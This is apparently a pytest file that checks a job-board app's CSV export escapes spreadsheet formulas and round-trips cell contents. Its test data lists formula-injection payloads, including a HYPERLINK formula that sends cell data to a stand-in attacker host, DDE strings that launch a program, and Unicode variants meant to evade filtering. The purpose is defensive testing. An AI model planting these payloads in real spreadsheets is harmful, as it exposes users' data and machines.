"""No cell of a CSV file is a formula, and everything comes back as it was."""

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jobboard.core.cells import FORMULA, csv_lines, safe_cell

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+49 30 901820",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\u3000＝1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_becomes_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Ada", "1+1", "a=b", "ada@example.org", "O'Neil", "“=1+1”", "Größe"])
def test_ordinary_text_stays(text):
    assert safe_cell(text) == text


def test_values_that_are_no_text(app):
    assert [safe_cell(one) for one in (None, -5, 0, True)] == ["", "-5", "0", "True"]
    assert safe_cell(dt.datetime(2026, 5, 4, 8, tzinfo=dt.UTC)) == "2026-05-04T10:00:00+02:00", "in Berlin"
    assert [safe_cell(one) for one in (dt.date(2027, 3, 28), 1.5)] == ["2027-03-28", "1.5"]


def test_file_begins_with_its_mark_and_quotes_every_cell():
    content = b"".join(csv_lines([["Tag", "Größe"], [dt.date(2027, 3, 28), 1.5], ['a,"b"', -3], [None, ""]]))
    assert content == ('\ufeff"Tag","Größe"\r\n"2027-03-28","1.5"\r\n"a,""b""","-3"\r\n"",""\r\n'.encode())


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8")), min_size=1, max_size=4), max_size=5))
def test_whatever_stands_in_cells_comes_back_and_none_begins_as_a_formula(table):
    data = b"".join(csv_lines(table)).decode("utf-8-sig") if table else ""
    found = list(csv.reader(io.StringIO(data, newline="")))
    assert [[cell.removeprefix("'") for cell in row] for row in found] == [
        [cell.removeprefix("'") for cell in row] for row in table
    ]
    assert not [cell for row in found for cell in row if cell.startswith(FORMULA)]
